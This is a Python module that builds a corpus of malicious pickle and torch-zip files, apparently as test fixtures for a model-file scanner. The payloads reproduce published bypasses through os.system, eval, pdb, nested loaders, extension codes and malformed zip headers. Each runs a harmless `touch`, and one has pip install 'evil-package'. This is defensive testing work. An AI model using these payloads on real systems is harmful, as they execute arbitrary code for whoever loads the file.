"""A corpus of published pickle-scanner bypasses, as files a version could hold.

Each is built from pickle opcodes or with `pickle.dumps` of an object whose
`__reduce__` returns the call (never loaded: loading one would run it). Every payload
would `touch` the marker path it is given. The cases follow picklescan's 2025
advisories (CVE-2025-1716, -1889, -1944, -1945, -10155, -10156, -10157), the
operator/pdb/profile/asyncio/nested-pickle bypasses published with them, and "Hide
and Seek" (arXiv 2508.19774).

    cases(marker) -> [Bypass(name, file name, bytes, what the refusal must name)]
"""

from __future__ import annotations

import io
import marshal
import os
import pdb
import pickle
import profile
import runpy
import struct
import timeit
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Bypass:
    name: str  # a ref name's worth: lower case, dashes
    file: str  # the file's name in the version
    data: bytes
    named: str  # what the refusal must name: a global or a problem's words


class Reduce:
    """An object that pickles as `function(*args)`."""

    def __init__(self, function: Callable[..., Any], *args: object) -> None:
        self.function, self.args = function, args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[object, ...]]:
        return self.function, self.args


def short_unicode(text: str) -> bytes:
    encoded = text.encode()
    return b"\x8c" + bytes([len(encoded)]) + encoded


def touch(marker: str) -> bytes:
    """`(S'touch marker'\\nt`: a protocol 0 tuple of the shell command."""
    return b"(S'touch " + marker.encode() + b"'\ntR"


def zip_of(entries: list[tuple[str, bytes]]) -> bytes:
    """A zip archive of stored entries, as zipfile (and torch.save) writes them."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are one of the cases
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
            for name, data in entries:
                archive.writestr(name, data)
    return buffer.getvalue()


def torch_zip(data_pkl: bytes, extra: list[tuple[str, bytes]] | None = None) -> bytes:
    """The layout of a torch.save archive, with `data_pkl` as its data.pkl."""
    return zip_of(
        [
            ("archive/data.pkl", data_pkl),
            ("archive/byteorder", b"little"),
            ("archive/data/0", b"\x00" * 64),
            ("archive/version", b"3\n"),
            *(extra or []),
        ]
    )


def local_flags(data: bytes, flags: int) -> bytes:
    """The first local header's general-purpose flags set to `flags` (CVE-2025-1945)."""
    changed = bytearray(data)
    struct.pack_into("<H", changed, 6, flags)
    return bytes(changed)


def local_name(data: bytes, old: bytes, new: bytes) -> bytes:
    """The first local header names `new` where the directory says `old` (CVE-2025-1944)."""
    changed = bytearray(data)
    assert changed[30 : 30 + len(old)] == old and len(old) == len(new)
    changed[30 : 30 + len(new)] = new
    return bytes(changed)


def bad_crc(data: bytes) -> bytes:
    """The first entry's CRC-32 wrong, in its local header and the directory
    (CVE-2025-10156: a scanner stopping on the error sees nothing; torch loads it)."""
    changed = bytearray(data)
    struct.pack_into("<I", changed, 14, 0xDEADBEEF)
    central = changed.index(b"PK\x01\x02")
    struct.pack_into("<I", changed, central + 16, 0xDEADBEEF)
    return bytes(changed)


def gap_before_directory(data: bytes, hidden: bytes) -> bytes:
    """`hidden` bytes between the last entry and the directory, offsets kept right."""
    central = data.index(b"PK\x01\x02")
    changed = bytearray(data[:central] + hidden + data[central:])
    end = changed.rindex(b"PK\x05\x06")
    (offset,) = struct.unpack_from("<I", changed, end + 16)
    struct.pack_into("<I", changed, end + 16, offset + len(hidden))
    return bytes(changed)


def cases(marker: str) -> list[Bypass]:
    command = f"touch {marker}"
    os_system = b"cos\nsystem\n" + touch(marker) + b"."
    return [
        # Calls through a reduce: the plain forms.
        Bypass("os-system-p0", "model.pth", os_system, "os.system"),
        *(
            Bypass(
                f"posix-system-p{p}",
                "model.pth",
                pickle.dumps(Reduce(os.system, command), protocol=p),
                "posix.system",
            )
            for p in (1, 2, 3, 4, 5)
        ),
        Bypass(
            "builtins-eval",
            "encoders.pkl",
            pickle.dumps(Reduce(eval, f"__import__('os').system('{command}')"), protocol=4),
            "builtins.eval",
        ),
        Bypass(
            "builtins-exec-p2",
            "encoders.pkl",
            pickle.dumps(Reduce(exec, f"import os; os.system('{command}')"), protocol=2),
            "builtins.exec",
        ),
        Bypass(
            "builtins-getattr",
            "encoders.pkl",
            b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR"
            + touch(marker)
            + b".",
            "builtins.getattr",
        ),
        Bypass(
            "builtins-import-p2",
            "encoders.pkl",
            pickle.dumps(Reduce(__import__, "os"), protocol=2),
            "builtins.__import__",
        ),
        # CVE-2025-1716: pip installs (and runs) a package.
        Bypass(
            "pip-main", "model.pth", b"cpip\nmain\n(](S'install'\nS'evil-package'\netR.", "pip.main"
        ),
        # CVE-2025-10155: protocol 0 and 1 under another name than .pkl, and in a zip.
        Bypass("protocol-0-bin", "pytorch_model.bin", os_system, "os.system"),
        Bypass(
            "protocol-1-pt",
            "weights.pt",
            pickle.dumps(Reduce(os.system, command), protocol=1),
            "posix.system",
        ),
        Bypass("protocol-0-zip", "model.pth", torch_zip(os_system), "os.system"),
        Bypass(
            "protocol-1-zip",
            "model.pth",
            torch_zip(pickle.dumps(Reduce(os.system, command), protocol=1)),
            "posix.system",
        ),
        # CVE-2025-1944 and -1945: the local header disagrees with the directory.
        Bypass(
            "zip-name-mismatch",
            "model.pth",
            local_name(torch_zip(os_system), b"archive/data.pkl", b"archive/data.txt"),
            "local header names",
        ),
        Bypass("zip-flag-bits", "model.pth", local_flags(torch_zip(os_system), 0x1), "flags"),
        # CVE-2025-10156: the CRC of data.pkl is wrong; torch.load does not check it.
        Bypass("zip-bad-crc", "model.pth", bad_crc(torch_zip(os_system)), "CRC-32"),
        # CVE-2025-10157: a submodule or a class nesting a banned module.
        Bypass(
            "asyncio-unix-events",
            "model.pth",
            b"casyncio.unix_events\n_UnixSubprocessTransport\n)R.",
            "asyncio.unix_events._UnixSubprocessTransport",
        ),
        Bypass(
            "dotted-name-reaches-os",
            "model.pth",
            b"\x80\x04"
            + short_unicode("torch.serialization")
            + short_unicode("os.system")
            + b"\x93"
            + short_unicode(command)
            + b"\x85R.",
            "torch.serialization.os.system",
        ),
        Bypass(
            "copyreg-py2-name",
            "model.pth",
            b"\x80\x02ccopy_reg\n_reconstructor\n)R.",
            "copyreg._reconstructor",
        ),
        # operator: attribute and method access by name.
        Bypass(
            "operator-attrgetter",
            "model.pth",
            b"coperator\nattrgetter\n(S'system'\ntR(cbuiltins\n__import__\n(S'os'\ntRtR"
            + touch(marker)
            + b".",
            "operator.attrgetter",
        ),
        Bypass(
            "operator-methodcaller",
            "model.pth",
            b"c_operator\nmethodcaller\n(S'system'\nS'"
            + command.encode()
            + b"'\ntR(cbuiltins\n__import__\n(S'os'\ntRtR.",
            "_operator.methodcaller",
        ),
        # Debuggers, profilers and interpreters that run a string.
        Bypass(
            "pdb-run",
            "model.pth",
            pickle.dumps(Reduce(pdb.run, f"__import__('os').system('{command}')"), protocol=2),
            "pdb.run",
        ),
        Bypass(
            "profile-run",
            "model.pth",
            pickle.dumps(Reduce(profile.run, f"__import__('os').system('{command}')"), protocol=4),
            "profile.run",
        ),
        Bypass(
            "cprofile-run",
            "model.pth",
            b'ccProfile\nrun\n(S\'__import__("os").system("' + command.encode() + b"\")'\ntR.",
            "cProfile.run",
        ),
        Bypass(
            "timeit-timeit",
            "model.pth",
            pickle.dumps(
                Reduce(timeit.timeit, f"__import__('os').system('{command}')"), protocol=3
            ),
            "timeit.timeit",
        ),
        Bypass(
            "code-interpreter",
            "model.pth",
            b"ccode\nInteractiveInterpreter\n)R.",
            "code.InteractiveInterpreter",
        ),
        Bypass(
            "runpy-run-path",
            "model.pth",
            pickle.dumps(Reduce(runpy.run_path, "/tmp/evil.py"), protocol=4),
            "runpy.run_path",
        ),
        # Nested pickles: a loader called on bytes the outer pickle carries.
        Bypass(
            "nested-pickle-loads",
            "model.pth",
            pickle.dumps(Reduce(pickle.loads, os_system), protocol=4),
            "pickle.loads",
        ),
        Bypass(
            "nested-c-pickle-loads",
            "model.pth",
            b"c_pickle\nloads\n(C" + bytes([len(os_system)]) + os_system + b"tR.",
            "_pickle.loads",
        ),
        Bypass(
            "nested-torch-load", "model.pth", b"ctorch\nload\n(S'/tmp/evil.pth'\ntR.", "torch.load"
        ),
        Bypass(
            "nested-numpy-load",
            "model.pth",
            b"cnumpy\nload\n(S'/tmp/evil.npy'\nI01\ntR.",
            "numpy.load",
        ),
        Bypass(
            "nested-marshal-loads",
            "model.pth",
            pickle.dumps(
                Reduce(marshal.loads, marshal.dumps(compile("0", "x", "eval"))), protocol=4
            ),
            "marshal.loads",
        ),
        # STACK_GLOBAL whose names come from the memo, not from literals next to it.
        Bypass(
            "stack-global-from-memo",
            "model.pth",
            b"\x80\x04"
            + short_unicode("posix")
            + b"\x94"
            + short_unicode("system")
            + b"\x94"
            + b"0h\x00h\x01\x93"
            + short_unicode(command)
            + b"\x85R.",
            "posix.system",
        ),
        # Extension codes: a global from copyreg's registry, which the stream cannot name.
        Bypass(
            "ext1",
            "model.pth",
            b"\x80\x02\x82\x01" + touch(marker)[:-1] + b"R.",
            "extension registry",
        ),
        Bypass(
            "ext2",
            "model.pth",
            b"\x80\x02\x83\x01\x02" + touch(marker)[:-1] + b"R.",
            "extension registry",
        ),
        Bypass(
            "ext4",
            "model.pth",
            b"\x80\x02\x84\x01\x02\x03\x04" + touch(marker)[:-1] + b"R.",
            "extension registry",
        ),
        # A torch-style zip with the payload in data.pkl, and zip irregularities.
        Bypass(
            "torch-zip-data-pkl",
            "model.pth",
            torch_zip(pickle.dumps(Reduce(os.system, command), protocol=2)),
            "posix.system",
        ),
        Bypass(
            "zip-duplicate-names",
            "model.pth",
            torch_zip(pickle.dumps({}, protocol=2), [("archive/data.pkl", os_system)]),
            "twice",
        ),
        Bypass(
            "zip-data-outside-entries",
            "model.pth",
            gap_before_directory(torch_zip(pickle.dumps({}, protocol=2)), os_system),
            "between the last entry",
        ),
        # A harmless pickle with a malicious one behind it (legacy torch chains five).
        Bypass(
            "chained-pickles",
            "model.pth",
            pickle.dumps([1, 2], protocol=2) + os_system,
            "os.system",
        ),
    ]
